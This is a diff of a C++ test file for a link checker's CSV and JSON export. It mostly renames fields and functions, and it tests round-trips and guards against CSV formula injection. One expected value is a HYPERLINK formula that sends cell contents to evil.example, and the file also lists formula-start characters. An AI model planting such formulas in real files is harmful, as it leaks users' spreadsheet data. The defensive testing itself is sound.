@@ -13,56 +13,55 @@
 namespace tarnwick {
 namespace {
 
-std::vector<ExportRow> SampleRows() {
+std::vector<ExportRow> sampleRows() {
     ExportRow found;
-    found.m_strAdvertiser = "www.example.com";
-    found.m_strPage = "http://caf\xE9.example/links?a=1,b=\"2\"";  // Windows-1252 as stored
-    found.m_strMail = "web@caf\xE9.example";
-    found.m_strNotify = "Enabled";
-    found.m_strResult = "Link Found";
-    found.m_strReason = "";
+    found.m_advertiser = "www.example.com";
+    found.m_page = "http://caf\xE9.example/links?a=1,b=\"2\"";  // Windows-1252 as stored
+    found.m_mail = "web@caf\xE9.example";
+    found.m_notify = "Enabled";
+    found.m_result = "Link Found";
+    found.m_reason = "";
     PageEvidence& e = found.m_evidence;
-    e.m_bChecked = true;
-    e.m_nHttpStatus = 200;
-    e.m_strFinalUrl = "https://caf\xC3\xA9.example/links";
-    e.m_strContentType = "text/html; charset=\"utf-8\"";
-    e.m_nBytes = 12345;
-    e.m_nElapsedMs = 87;
-    e.m_bAnchorFound = true;
-    e.m_strHref = "http://www.example.com/?x=1&y=2";
-    e.m_strRel = "nofollow sponsored";
-    e.m_strAnchorText = "Caf\xC3\xA9 \"best\",\r\ndeal\\ \x01 \xE2\x82\xAC";
-    e.m_strMetaRobots = "noindex, nofollow";
-    e.m_strXRobotsTag = "bad \xFF byte";  // not UTF-8: read as Windows-1252
-    e.m_bNoindex = true;
-    e.m_bNofollow = true;
+    e.m_checked = true;
+    e.m_httpStatus = 200;
+    e.m_finalUrl = "https://caf\xC3\xA9.example/links";
+    e.m_contentType = "text/html; charset=\"utf-8\"";
+    e.m_bytes = 12345;
+    e.m_elapsedMs = 87;
+    e.m_anchorFound = true;
+    e.m_href = "http://www.example.com/?x=1&y=2";
+    e.m_rel = "nofollow sponsored";
+    e.m_anchorText = "Caf\xC3\xA9 \"best\",\r\ndeal\\ \x01 \xE2\x82\xAC";
+    e.m_metaRobots = "noindex, nofollow";
+    e.m_xRobotsTag = "bad \xFF byte";  // not UTF-8: read as Windows-1252
+    e.m_noindex = true;
+    e.m_nofollow = true;
     e.m_robotsAll = RobotsVerdict::Allowed;
     e.m_robotsGooglebot = RobotsVerdict::Disallowed;
-    e.m_strHiddenBy = "<div hidden> around the link";
-    e.m_bHiddenByMarkup = true;
-    e.m_nOutboundLinks = 7;
-    e.m_directives[static_cast<size_t>(Crawler::Bingbot)].m_strNoindex =
-        "X-Robots-Tag: bingbot: none";
-    e.m_directives[static_cast<size_t>(Crawler::Bingbot)].m_strNofollow =
+    e.m_hiddenBy = "<div hidden> around the link";
+    e.m_hiddenByMarkup = true;
+    e.m_outboundLinks = 7;
+    e.m_directives[static_cast<size_t>(Crawler::Bingbot)].m_noindex = "X-Robots-Tag: bingbot: none";
+    e.m_directives[static_cast<size_t>(Crawler::Bingbot)].m_nofollow =
         "X-Robots-Tag: bingbot: none";
 
     ExportRow failed;
-    failed.m_strAdvertiser = "www.example.com";
-    failed.m_strPage = "http://down.example/";
-    failed.m_strMail = " ";
-    failed.m_strNotify = "Disabled";
-    failed.m_strResult = "Page cannot be displayed";
-    failed.m_strReason = "no connection";
-    failed.m_evidence.m_bChecked = true;
+    failed.m_advertiser = "www.example.com";
+    failed.m_page = "http://down.example/";
+    failed.m_mail = " ";
+    failed.m_notify = "Disabled";
+    failed.m_result = "Page cannot be displayed";
+    failed.m_reason = "no connection";
+    failed.m_evidence.m_checked = true;
 
     ExportRow unchecked;
-    unchecked.m_strAdvertiser = "";
-    unchecked.m_strPage = "";
+    unchecked.m_advertiser = "";
+    unchecked.m_page = "";
     return {found, failed, unchecked};
 }
 
 // What Python's csv and json modules read back: index -> key -> JSON value.
-std::map<int, std::map<std::string, std::string>> ReadBack(const std::string& kind,
+std::map<int, std::map<std::string, std::string>> readBack(const std::string& kind,
                                                            const std::string& path,
                                                            const std::string& folder) {
     const char* source = std::getenv("TARNWICK_SOURCE_DIR");
@@ -74,7 +73,7 @@ std::map<int, std::map<std::string, std::string>> ReadBack(const std::string& ki
                                 kind + " '" + path + "' > '" + out + "'";
     EXPECT_EQ(std::system(command.c_str()), 0) << kind << " did not parse";
     std::map<int, std::map<std::string, std::string>> records;
-    std::istringstream lines(test::ReadBytes(out));
+    std::istringstream lines(test::readBytes(out));
     std::string line;
     while (std::getline(lines, line)) {
         const size_t tab1 = line.find('\t');
@@ -91,23 +90,23 @@ const std::vector<std::string> kRequiredKeys = {
 
 TEST(ResultExportTest, CsvAndJsonReadBackByRealReaders) {
     test::TempDataFolder folder;
-    const std::vector<ExportRow> rows = SampleRows();
-    const std::string csvPath = folder.Root() + "/results.csv";
-    const std::string jsonPath = folder.Root() + "/results.JSON";
-    ASSERT_EQ(ExportKindFor(csvPath), ExportKind::Csv);
-    ASSERT_EQ(ExportKindFor(jsonPath), ExportKind::Json);
-    WriteExport(csvPath, rows, ExportKind::Csv);
-    WriteExport(jsonPath, rows, ExportKind::Json);
-    const std::string jsonlPath = folder.Root() + "/results.jsonl";
+    const std::vector<ExportRow> rows = sampleRows();
+    const std::string csvPath = folder.root() + "/results.csv";
+    const std::string jsonPath = folder.root() + "/results.JSON";
+    ASSERT_EQ(exportKindFor(csvPath), ExportKind::Csv);
+    ASSERT_EQ(exportKindFor(jsonPath), ExportKind::Json);
+    writeExport(csvPath, rows, ExportKind::Csv);
+    writeExport(jsonPath, rows, ExportKind::Json);
+    const std::string jsonlPath = folder.root() + "/results.jsonl";
     std::string lines;
     for (const ExportRow& row : rows) {
-        lines += ExportJsonObject(row) + "\n";
+        lines += exportJsonObject(row) + "\n";
     }
-    test::WriteBytes(jsonlPath, lines);
+    test::writeBytes(jsonlPath, lines);
 
-    const auto csv = ReadBack("csv", csvPath, folder.Root());
-    const auto json = ReadBack("json", jsonPath, folder.Root());
-    const auto jsonl = ReadBack("jsonl", jsonlPath, folder.Root());
+    const auto csv = readBack("csv", csvPath, folder.root());
+    const auto json = readBack("json", jsonPath, folder.root());
+    const auto jsonl = readBack("jsonl", jsonlPath, folder.root());
     ASSERT_EQ(csv.size(), 3u);
     ASSERT_EQ(json.size(), 3u);
     EXPECT_EQ(jsonl, json);
@@ -162,7 +161,7 @@ TEST(ResultExportTest, CsvAndJsonReadBackByRealReaders) {
 
     // RFC 4180 records end in CR LF; the one line break inside a field is
     // the quoted anchor text's.
-    const std::string bytes = test::ReadBytes(csvPath);
+    const std::string bytes = test::readBytes(csvPath);
     EXPECT_EQ(bytes.substr(0, 17), "advertiser,page,m");
     EXPECT_EQ(bytes.substr(bytes.size() - 2), "\r\n");
 }
@@ -170,7 +169,7 @@ TEST(ResultExportTest, CsvAndJsonReadBackByRealReaders) {
 // The first character of a JSON string as read_export.py prints it (ASCII
 // escapes), after the blanks a spreadsheet may skip: "=" or "\\t" or
 // "\\uff1d"; "" for an empty string or one of blanks only.
-std::string FirstAfterBlanks(const std::string& json, bool& leadingTabOrCr) {
+std::string firstAfterBlanks(const std::string& json, bool& leadingTabOrCr) {
     leadingTabOrCr = json.rfind("\"\\t", 0) == 0 || json.rfind("\"\\r", 0) == 0;
     size_t at = 1;
     for (;;) {
@@ -189,9 +188,9 @@ std::string FirstAfterBlanks(const std::string& json, bool& leadingTabOrCr) {
     return json.substr(at, json[at] == '\\' ? (json[at + 1] == 'u' ? 6 : 2) : 1);
 }
 
-bool IsFormulaStart(const std::string& json) {
+bool isFormulaStart(const std::string& json) {
     bool tabOrCr = false;
-    const std::string first = FirstAfterBlanks(json, tabOrCr);
+    const std::string first = firstAfterBlanks(json, tabOrCr);
     for (const char* formula : {"=", "+", "-", "@", "\\uff1d", "\\uff0b", "\\uff0d", "\\uff20"}) {
         if (first == formula) {
             return true;
@@ -233,33 +232,33 @@ TEST(ResultExportTest, NoCsvCellStartsAFormula) {
         // The stored 8-bit texts are Windows-1252; the fullwidth signs exist
         // only in the fetched (UTF-8) ones.
         const bool ascii = std::string(c.text).find('\xEF') == std::string::npos;
-        row.m_strAdvertiser = ascii ? c.text : "";
-        row.m_strPage = ascii ? c.text : "";
-        row.m_strMail = ascii ? c.text : "";
-        row.m_strReason = ascii ? c.text : "";
-        row.m_strResult = "Link Found";
+        row.m_advertiser = ascii ? c.text : "";
+        row.m_page = ascii ? c.text : "";
+        row.m_mail = ascii ? c.text : "";
+        row.m_reason = ascii ? c.text : "";
+        row.m_result = "Link Found";
         PageEvidence& e = row.m_evidence;
-        e.m_bChecked = true;
-        e.m_nHttpStatus = 200;
-        e.m_strFinalUrl = c.text;
-        e.m_strContentType = c.text;
-        e.m_bAnchorFound = true;
-        e.m_strHref = c.text;
-        e.m_strAnchorText = c.text;
-        e.m_strMetaRobots = c.text;
-        e.m_strXRobotsTag = c.text;
-        e.m_strHiddenBy = c.text;  // a finding's evidence too
-        e.m_strCanonical = c.text;
-        e.m_strCanonicalSource = c.text;
-        e.m_strRobotsNotes = c.text;
+        e.m_checked = true;
+        e.m_httpStatus = 200;
+        e.m_finalUrl = c.text;
+        e.m_contentType = c.text;
+        e.m_anchorFound = true;
+        e.m_href = c.text;
+        e.m_anchorText = c.text;
+        e.m_metaRobots = c.text;
+        e.m_xRobotsTag = c.text;
+        e.m_hiddenBy = c.text;  // a finding's evidence too
+        e.m_canonical = c.text;
+        e.m_canonicalSource = c.text;
+        e.m_robotsNotes = c.text;
         rows.push_back(row);
     }
-    const std::string csvPath = folder.Root() + "/hostile.csv";
-    const std::string jsonPath = folder.Root() + "/hostile.json";
-    WriteExport(csvPath, rows, ExportKind::Csv);
-    WriteExport(jsonPath, rows, ExportKind::Json);
-    const auto csv = ReadBack("csv", csvPath, folder.Root());
-    const auto json = ReadBack("json", jsonPath, folder.Root());
+    const std::string csvPath = folder.root() + "/hostile.csv";
+    const std::string jsonPath = folder.root() + "/hostile.json";
+    writeExport(csvPath, rows, ExportKind::Csv);
+    writeExport(jsonPath, rows, ExportKind::Json);
+    const auto csv = readBack("csv", csvPath, folder.root());
+    const auto json = readBack("json", jsonPath, folder.root());
     ASSERT_EQ(csv.size(), cases.size());
     ASSERT_EQ(json.size(), cases.size());
     for (size_t i = 0; i < cases.size(); ++i) {
@@ -268,15 +267,15 @@ TEST(ResultExportTest, NoCsvCellStartsAFormula) {
         const auto& j = json.at(static_cast<int>(i));
         for (const auto& [key, value] : c) {
             SCOPED_TRACE(key + " = " + value);
-            EXPECT_FALSE(IsFormulaStart(value));
+            EXPECT_FALSE(isFormulaStart(value));
             const std::string& original = j.at(key);
             if (original.empty() || original[0] != '"') {
                 continue;  // a number, flag or list in JSON
             }
             // The CSV cell is the JSON value, with the apostrophe when needed.
-            EXPECT_EQ(value, IsFormulaStart(original) ? "\"'" + original.substr(1) : original);
+            EXPECT_EQ(value, isFormulaStart(original) ? "\"'" + original.substr(1) : original);
         }
-        EXPECT_EQ(IsFormulaStart(j.at("anchor_text")), cases[i].formula);
+        EXPECT_EQ(isFormulaStart(j.at("anchor_text")), cases[i].formula);
     }
     EXPECT_EQ(json.at(0).at("anchor_text"),
               R"x("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")")x");
@@ -285,7 +284,7 @@ TEST(ResultExportTest, NoCsvCellStartsAFormula) {
 }
 
 TEST(ResultExportTest, AnExportThatCannotBeWrittenThrows) {
-    EXPECT_ANY_THROW(WriteExport("/nonexistent-folder/x.csv", SampleRows(), ExportKind::Csv));
+    EXPECT_ANY_THROW(writeExport("/nonexistent-folder/x.csv", sampleRows(), ExportKind::Csv));
 }
 
 }  // namespace
